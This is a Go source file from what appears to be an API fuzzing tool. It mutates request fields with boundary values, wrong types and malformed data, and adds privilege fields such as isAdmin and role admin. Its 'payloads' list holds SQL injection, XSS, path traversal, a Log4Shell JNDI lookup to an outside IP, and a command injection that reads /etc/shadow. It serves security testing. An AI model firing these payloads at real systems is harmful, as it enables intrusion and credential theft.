package tampering

import (
	"math"
	"strconv"
	"strings"
	"time"
)

// negative is below zero where nothing ever was.
func negative(at *spot) (change, bool) {
	if at.field == nil || !at.field.allNumeric() || at.field.min < 0 || !at.value.isNumber() {
		return none, false
	}
	if n, _ := at.value.float(); n == 0 {
		return set(at.value.like("-1")), true
	}
	return set(at.value.like("-" + at.value.text)), true
}

func (v *value) isNumber() bool {
	_, ok := v.float()
	return ok
}

// like is a number written as this one is: as text or not, with a point or without.
func (v *value) like(s string) *value {
	if strings.Contains(v.text, ".") && !strings.Contains(s, ".") {
		s += ".0"
	}
	return &value{kind: v.kind, text: s}
}

func huge(at *spot) (change, bool) {
	if at.field == nil || !at.field.allNumeric() || !at.value.isNumber() || at.field.max > 1e9 || hasWord(at.name(), noIDWords) {
		return none, false
	}
	n := max(1e9, 1e6*math.Ceil(math.Abs(at.field.max))) + float64(at.rng.IntN(1000))
	return set(at.value.like(strconv.FormatFloat(n, 'f', 0, 64))), true
}

func zero(at *spot) (change, bool) {
	if at.field == nil || !at.field.allNumeric() || at.field.min <= 0 || !at.value.isNumber() || !isMoney(at.name()) {
		return none, false
	}
	return set(at.value.like("0")), true
}

func otherType(at *spot) (change, bool) {
	f := at.field
	if f == nil {
		return none, false
	}
	if !strings.HasPrefix(at.path, "req.body") {
		if !f.allNumeric() || f.nulls > 0 {
			return none, false
		}
		return find(textValue("abc")), true
	}
	pick := func(all ...*value) (change, bool) { return find(all[at.rng.IntN(len(all))]), true }
	switch {
	case at.value.kind == number && f.only(number):
		return pick(textValue("abc"), &value{kind: truth, text: "true"}, &value{kind: list})
	case at.value.kind == text && f.only(text) && f.numeric == 0:
		return pick(numberValue("12345"), &value{kind: truth, text: "true"}, &value{kind: list, items: []*value{at.value.clone()}},
			&value{kind: object, names: []string{"$ne"}, items: []*value{{}}})
	case at.value.kind == truth && f.only(truth):
		return pick(textValue("abc"), numberValue("7"))
	}
	return none, false
}

// unknownValue is none of a small set of values. A name of a person or an account may be a new one, and a price another.
func unknownValue(at *spot) (change, bool) {
	f := at.field
	if f == nil || !at.value.scalar() || at.value.kind == truth || at.value.kind == null || at.value.text == "" || !f.enumeration() ||
		identity.MatchString(at.name()) || hasWord(at.name(), freeText) || isMoney(at.name()) {
		return none, false
	}
	if n, ok := at.value.float(); ok {
		if !f.allNumeric() || f.max-f.min > 4*float64(len(f.values)) {
			return none, false
		}
		return set(at.value.like(strconv.FormatFloat(math.Trunc(max(n, f.max))+float64(50+at.rng.IntN(40)), 'f', 0, 64))), true
	}
	for range 10 {
		s := shaped(at.value.text, at.rng)
		if f.values[s] == nil && s != at.value.text {
			return find(textValue(s)), true
		}
	}
	return none, false
}

func malformed(at *spot) (change, bool) {
	f := at.field
	switch {
	case f == nil || at.value.kind != text || f.present < settled:
		return none, false
	case f.allDates() && isDate(at.value.text):
		return find(textValue(at.value.text[:4] + "-13-45" + at.value.text[10:])), true
	case f.ids+f.empties+f.nulls == f.present && uuid.MatchString(at.value.text):
		s := at.value.text
		return find(textValue([]string{s[:len(s)-1] + "x", s[:30], s + "0"}[at.rng.IntN(3)])), true
	}
	return none, false
}

func empty(at *spot) (change, bool) {
	if at.field == nil || at.value.kind != text || at.value.text == "" || at.field.kinds[text] < settled || at.field.empties+at.field.nulls > 0 || !at.required() {
		return none, false
	}
	return find(textValue("")), true
}

func makeNull(at *spot) (change, bool) {
	if at.field == nil || at.held == nil || at.lists > 0 || !at.needed() || at.field.nulls > 0 || at.field.present < settled || at.field.present < at.api.bodies {
		return none, false
	}
	return find(new(value)), true
}

func drop(at *spot) (change, bool) {
	if at.field == nil || at.lists > 0 || !at.needed() || !at.required() || at.field.present < at.api.calls || at.field.present < settled {
		return none, false
	}
	return change{owner: -1, nothing: true}, true
}

// required is true for a member of a body: parameters of a query are optional, and so is what people write as they like.
func (at *spot) required() bool {
	return at.held != nil && !hasWord(at.name(), freeText)
}

// needed is true for a value that cannot stand for nothing: leaving out a false, a zero or an empty text may mean the same.
func (at *spot) needed() bool {
	f := at.field
	return telling(at.value) && at.value.key() != "0" && f.nulls == 0 && f.empties == 0 && (!f.allNumeric() || f.min != 0)
}

// strangers are members that programs have been found to take over from a body.
var strangers = []struct {
	name  string
	value *value
}{
	{"isAdmin", &value{kind: truth, text: "true"}},
	{"role", textValue("admin")},
	{"discount", numberValue("100")},
	{"debug", &value{kind: truth, text: "true"}},
	{"approved", &value{kind: truth, text: "true"}},
}

func add(at *spot) (change, bool) {
	if at.path != "req.body" || at.value.kind != object || at.api.bodies < settled || len(at.api.members) > 40 {
		return none, false
	}
	for name := range at.api.members {
		if at.survey.fields[fieldKey{at.call.api, "req.body." + name}].present < at.api.bodies {
			return none, false // members come and go
		}
	}
	s := strangers[at.rng.IntN(len(strangers))]
	if at.api.members[s.name] {
		return none, false
	}
	return change{value: s.value.clone(), add: s.name, owner: -1}, true
}

var payloads = []string{
	"' OR '1'='1' -- ", "1; DROP TABLE users; --", "<script>alert(1)</script>", "../../../../etc/passwd",
	"${jndi:ldap://198.51.100.7/a}", "`id`; cat /etc/shadow", "' UNION SELECT username, password FROM users -- ", "{{7*7}}${7*7}<%= 7*7 %>",
}

func inject(at *spot) (change, bool) {
	if at.field == nil || at.value.kind != text || at.field.kinds[text] < settled || at.field.odd > 0 {
		return none, false
	}
	p := payloads[at.rng.IntN(len(payloads))]
	if at.rng.IntN(2) == 0 && strings.HasPrefix(p, "'") {
		p = at.value.text + p
	}
	return find(textValue(p)), true
}

func overlong(at *spot) (change, bool) {
	if at.field == nil || at.value.kind != text || at.value.text == "" || at.field.kinds[text] < settled {
		return none, false
	}
	n := max(1000, 20*at.field.longest)
	if n > 20_000 {
		return none, false
	}
	return find(textValue(strings.Repeat(at.value.text, 1+n/len(at.value.text))[:n])), true
}

func pastDate(at *spot) (change, bool) {
	if at.field == nil || at.value.kind != text || !at.field.allDates() || at.field.past > 0 || at.field.future*10 < at.field.dates || !isDate(at.value.text) {
		return none, false
	}
	then := time.Unix(0, at.call.start).UTC().AddDate(-1, 0, -at.rng.IntN(300)-1).Format(time.DateOnly)
	return set(textValue(then + at.value.text[10:])), true
}

// sameTwice makes two fields of a body equal that never are.
func sameTwice(at *spot) (change, bool) {
	if at.field == nil || at.held == nil || at.value.kind != text || at.value.text == "" || len(at.field.values) < 3 {
		return none, false
	}
	for i, name := range at.held.names {
		other := at.held.items[i]
		if other == at.value || other.kind != text || other.text == "" || other.text == at.value.text {
			continue
		}
		key := pairKey(at.call.api, at.name(), name)
		p := at.survey.pairs[key]
		if p != nil && p.both >= 2*settled && p.equal == 0 && at.field.share(at.survey.fields[fieldKey{at.call.api, "req.body." + name}]) {
			return find(other.clone()), true
		}
	}
	return none, false
}

// share is true if half of the values are the other's as well.
func (f *fieldFacts) share(other *fieldFacts) bool {
	if other == nil || len(other.values) < 3 {
		return false
	}
	both := 0
	for key := range f.values {
		if other.values[key] != nil {
			both++
		}
	}
	return 2*both >= min(len(f.values), len(other.values)) && both >= 3
}
